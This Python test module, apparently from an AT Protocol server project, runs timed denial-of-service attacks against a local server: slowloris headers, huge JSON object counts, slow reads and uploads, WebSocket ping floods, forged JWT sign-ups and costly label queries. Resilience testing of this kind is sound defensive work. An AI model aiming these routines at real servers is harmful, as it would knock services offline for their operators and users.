"""The attacks: `python -m tests.attack.attackers NAME JSON` runs one until its time is over.

The JSON is an `Aim`. Every attack is a set of threads that loop until `aim.seconds` have passed;
sockets have time limits, so all of it ends by itself.
"""

import base64
import itertools
import json
import secrets
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests.attack.wire import ATTACKERS, connect, head

SMALL_BUFFER = 4_096


@dataclass
class Aim:
    """Whom to attack for how long, and what was laid ready for it (`made`)."""

    port: int
    seconds: float
    made: dict[str, Any] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.until = time.monotonic() + self.seconds

    def is_over(self) -> bool:
        return time.monotonic() >= self.until


Attack = Callable[[Aim, str], None]


def long_heads(aim: Aim, address: str) -> None:
    """Request lines and headers that do not end."""
    heads = (
        (b"GET /xrpc/_health?", b"a" * 1_000_000, 40),
        (
            b"GET /xrpc/_health HTTP/1.1\r\nHost: localhost\r\n",
            b"X-A: " + b"b" * 993 + b"\r\n",
            30_000,
        ),
        (b"GET /xrpc/_health HTTP/1.1\r\nHost: localhost\r\nX-A: ", b"c" * 1_000_000, 30),
    )
    while not aim.is_over():
        for begin, piece, times in heads:
            _pour(aim, address, begin, piece, times)


def _pour(aim: Aim, address: str, begin: bytes, piece: bytes, times: int) -> None:
    with suppress(OSError), connect(address, aim.port) as made:
        made.sendall(begin)
        for _ in range(times):
            if aim.is_over():
                return
            made.sendall(piece)
        made.recv(1_000)


def containers(aim: Aim, address: str) -> None:
    """Records that are small in bytes and large in objects."""
    values = (
        "[" + ",".join(["{}"] * 320_000) + "]",
        "[" + ",".join(["[]"] * 320_000) + "]",
        "[" + ",".join(["7"] * 480_000) + "]",
        "[" + ",".join(["{}"] * 19_990) + "]",  # as many as there may be
        "[" + ",".join(['{"a":{"b":1,"c":2},"f":[{"d":""}]}'] * 4_900) + "]",
        "{" + ",".join(f'"k{number}":{{}}' for number in range(60_000)) + "}",
    )
    bodies = [
        (
            f'{{"repo":"{aim.made["did"]}","collection":"com.example.bomb","validate":false,'
            f'"record":{{"$type":"com.example.bomb","v":{value}}}}}'
        ).encode()
        for value in values
    ]
    while not aim.is_over():
        for body in bodies:
            _send(aim, address, "com.atproto.repo.createRecord", body)


def _send(aim: Aim, address: str, nsid: str, body: bytes, token: str = "") -> None:
    """One procedure call; its answer does not matter."""
    headers = {"Authorization": f"Bearer {token or aim.made['token']}"}
    with suppress(OSError), connect(address, aim.port) as made:
        made.sendall(
            head(
                "POST",
                f"/xrpc/{nsid}",
                aim.port,
                Content_Type="application/json",
                Content_Length=str(len(body)),
                Connection="close",
                **headers,
            )
        )
        made.sendall(body)
        while made.recv(65_536) and not aim.is_over():
            pass


def unread_blocks(aim: Aim, address: str) -> None:
    """Large answers asked for and not taken, or taken in crumbs."""
    did = aim.made["did"]
    cids = "".join(f"&cids={cid}" for cid in aim.made["cids"])
    targets = (
        f"/xrpc/com.atproto.sync.getBlocks?did={did}{cids}",
        f"/xrpc/com.atproto.repo.listRecords?repo={did}&collection=com.example.big&limit=100",
        f"/xrpc/com.atproto.sync.getRepo?did={did}",
    )
    while not aim.is_over():
        for target in targets:
            _ask_and_dawdle(aim, address, target, crumb_bytes=4_096, every_s=1.0)


def slow_transfers(aim: Aim, address: str) -> None:
    """A large blob taken at 16 kB a second."""
    target = f"/xrpc/com.atproto.sync.getBlob?did={aim.made['did']}&cid={aim.made['blob']}"
    while not aim.is_over():
        _ask_and_dawdle(aim, address, target, crumb_bytes=16_384, every_s=1.0)


def _ask_and_dawdle(
    aim: Aim, address: str, target: str, *, crumb_bytes: int, every_s: float
) -> None:
    with suppress(OSError), connect(address, aim.port, SMALL_BUFFER) as made:
        made.sendall(head("GET", target, aim.port))
        while not aim.is_over():
            time.sleep(every_s)
            if not made.recv(crumb_bytes):
                return


def slow_uploads(aim: Aim, address: str) -> None:
    """Uploads announced as large and sent at 2 kB a second."""
    token = aim.made["token"]
    while not aim.is_over():
        with suppress(OSError), connect(address, aim.port) as made:
            made.sendall(
                head(
                    "POST",
                    "/xrpc/com.atproto.repo.uploadBlob",
                    aim.port,
                    Content_Type="video/mp4",
                    Content_Length="100000000",
                    Authorization=f"Bearer {token}",
                )
            )
            while not aim.is_over():
                made.sendall(b"v" * 2_048)
                time.sleep(1.0)


class _SilentDid(BaseHTTPRequestHandler):
    """A did:web document that comes after 2.7 seconds and proves nothing."""

    def do_GET(self) -> None:
        time.sleep(2.7)
        did = f"did:web:localhost%3A{self.server.server_port}"  # type: ignore[attr-defined]
        document = {"id": did, "verificationMethod": [], "service": []}
        body = json.dumps(document).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args: object) -> None:
        """Nobody reads it."""


def silent_dids(aim: Aim, address: str) -> None:
    """Sign-ups with forged tokens of DIDs whose servers take their time."""
    while not aim.is_over():
        server = ThreadingHTTPServer(("127.0.0.1", 0), _SilentDid)
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        did = f"did:web:localhost%3A{server.server_port}"
        wanted = {
            "did": did,
            "handle": f"u{secrets.token_hex(5)}.test",
            "email": f"{secrets.token_hex(5)}@example.com",
            "password": secrets.token_hex(12),
        }
        token = _forged(did, aim.made["service_did"], "com.atproto.server.createAccount")
        _send(aim, address, "com.atproto.server.createAccount", json.dumps(wanted).encode(), token)
        server.shutdown()
        server.server_close()


def _forged(iss: str, aud: str, lxm: str) -> str:
    now = int(time.time())
    claims = {"iss": iss, "aud": aud, "lxm": lxm, "iat": now, "exp": now + 60}
    claims["jti"] = secrets.token_hex(16)
    parts = [json.dumps({"alg": "ES256K", "typ": "JWT"}).encode(), json.dumps(claims).encode()]
    parts.append(secrets.token_bytes(64))
    return ".".join(base64.urlsafe_b64encode(part).rstrip(b"=").decode() for part in parts)


def unread_sockets(aim: Aim, address: str) -> None:
    """Readers of firehose and labels that ask for everything and take nothing."""
    nsids = ("com.atproto.sync.subscribeRepos", "com.atproto.label.subscribeLabels")
    for nsid in itertools.cycle(nsids):
        if aim.is_over():
            return
        with suppress(OSError), connect(address, aim.port, SMALL_BUFFER) as made:
            made.sendall(_handshake(aim, f"/xrpc/{nsid}?cursor=0"))
            if made.recv(12)[9:] == b"101":
                _hold(aim, made)
            time.sleep(0.2)


def costly_patterns(aim: Aim, address: str) -> None:
    """Questions about labels with as many patterns as a call takes, which match all or nothing."""
    every = "".join(f"&uriPatterns=at://did:plc:{number:x}*" for number in range(99))
    asked = (f"uriPatterns=*&limit=250{every}", f"uriPatterns=at://*{every}", f"limit=1{every}")
    for query in itertools.cycle(asked):
        if aim.is_over():
            return
        target = f"/xrpc/com.atproto.label.queryLabels?{query}"
        with suppress(OSError), connect(address, aim.port) as made:
            made.sendall(head("GET", target, aim.port, Connection="close"))
            while made.recv(65_536):
                pass


def _handshake(aim: Aim, target: str) -> bytes:
    return head(
        "GET",
        target,
        aim.port,
        Upgrade="websocket",
        Connection="Upgrade",
        Sec_WebSocket_Version="13",
        Sec_WebSocket_Key=base64.b64encode(secrets.token_bytes(16)).decode(),
    )


def _hold(aim: Aim, made: socket.socket) -> None:
    """Keep a socket until it is cut or the time is over."""
    while not aim.is_over():
        time.sleep(0.5)
        made.send(b"\x8a\x80\x00\x00\x00\x00")  # a pong nobody asked for: fails once it is cut


def crumbs(aim: Aim, address: str) -> None:
    """Bodies in chunks of a byte."""
    begin = head(
        "POST",
        "/xrpc/com.atproto.repo.uploadBlob",
        aim.port,
        Content_Type="video/mp4",
        Transfer_Encoding="chunked",
        Authorization=f"Bearer {aim.made['token']}",
    )
    while not aim.is_over():
        _pour(aim, address, begin, b"1\r\nx\r\n" * 20_000, 50)
        time.sleep(0.1)


def pings(aim: Aim, address: str) -> None:
    """Firehose readers that ping without end."""
    while not aim.is_over():
        with suppress(OSError), connect(address, aim.port) as made:
            made.sendall(_handshake(aim, "/xrpc/com.atproto.sync.subscribeRepos"))
            if made.recv(12)[9:] == b"101":
                made.sendall(b"\x89\x80\x00\x00\x00\x00" * 1_000_000)
        time.sleep(0.1)


def slow_heads(aim: Aim, address: str) -> None:
    """Connections by the hundred whose request never comes to an end."""
    held: list[socket.socket] = []
    while not aim.is_over():
        for _ in range(50):
            with suppress(OSError):
                held.append(connect(address, aim.port))
        for each in held:
            with suppress(OSError):
                each.send(b"G")
        time.sleep(1.0)


def many_networks(aim: Aim, address: str) -> None:
    """Thirty networks at a time: bodies that drip, a blob taken in crumbs, heads without an end."""
    own = {"Authorization": f"Bearer {aim.made['token']}", "Content_Length": "900000"}
    blob = f"/xrpc/com.atproto.sync.getBlob?did={aim.made['did']}&cid={aim.made['blob']}"
    ranges = ",".join(f"{at}-{at + 1}" for at in range(0, 4_000, 2))
    record, upload = "/xrpc/com.atproto.repo.createRecord", "/xrpc/com.atproto.repo.uploadBlob"
    begins = (
        head("POST", record, aim.port, Content_Type="application/json", **own) + b"[" * 65_000,
        head("POST", upload, aim.port, Content_Type="video/mp4", **{**own, **_LONG}),
        head("GET", blob, aim.port, Range=f"bytes={ranges}"),
        head("GET", "/", aim.port, X_A="a" * 30_000)[:-4],
    )
    subnet = address.rpartition(".")[2]
    held: list[socket.socket] = []
    for number in range(1, 31):
        for begin in begins:
            with suppress(OSError):
                held.append(connect(f"127.1.{subnet}.{number}", aim.port, SMALL_BUFFER))
                held[-1].sendall(begin)
    while not aim.is_over():
        for each in held:
            with suppress(OSError):
                each.send(b"x" * 2_048)
        time.sleep(1.0)


_LONG = {"Content_Length": "90000000"}

# Each attack with the number of threads that run it from each address.
ATTACKS: dict[str, tuple[tuple[Attack, int], ...]] = {
    "long heads": ((long_heads, 2),),
    "containers": ((containers, 4),),
    "unread blocks": ((unread_blocks, 12), (costly_patterns, 4)),
    "slow transfers": ((slow_transfers, 20), (slow_uploads, 20)),
    "silent DIDs": ((silent_dids, 24),),
    "unread sockets": ((unread_sockets, 200),),
    "crumbs": ((crumbs, 4), (pings, 8), (slow_heads, 10)),
    "many networks": ((many_networks, 4),),
}


def main(name: str, aim: Aim) -> None:
    """Run one attack from every address until its time is over."""
    threads = [
        threading.Thread(target=attack, args=(aim, address), daemon=True)
        for attack, count in ATTACKS[name]
        for address in ATTACKERS
        for _ in range(count)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.0, aim.until + 5 - time.monotonic()))


if __name__ == "__main__":
    main(sys.argv[1], Aim(**json.loads(sys.argv[2])))
